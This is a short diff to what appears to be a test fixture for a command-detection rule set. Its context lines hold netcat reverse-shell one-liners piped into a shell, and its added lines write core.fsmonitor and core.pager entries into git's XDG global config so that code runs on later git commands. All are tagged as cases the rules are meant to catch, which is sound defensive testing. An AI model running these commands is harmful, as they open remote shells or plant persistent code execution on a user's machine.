@@ -93,3 +93,10 @@ nc 10.0.0.1 4444 | env -i /bin/bash
 nc 10.0.0.1 4444 | (sh)
 # ruleid: GK-NET-001
 nc 10.0.0.1 4444 | { sh; }
+
+# -- git's XDG global config runs code as `~/.gitconfig` does (`core.fsmonitor` on the next
+# `git status`): it was only a write outside the allowed dirs (REVIEW) ------------------
+# ruleid: GK-PROT-001
+printf '[core]\n\tfsmonitor = x\n' >> ~/.config/git/config
+# ruleid: GK-PROT-001
+git config --file ~/.config/git/config core.pager less
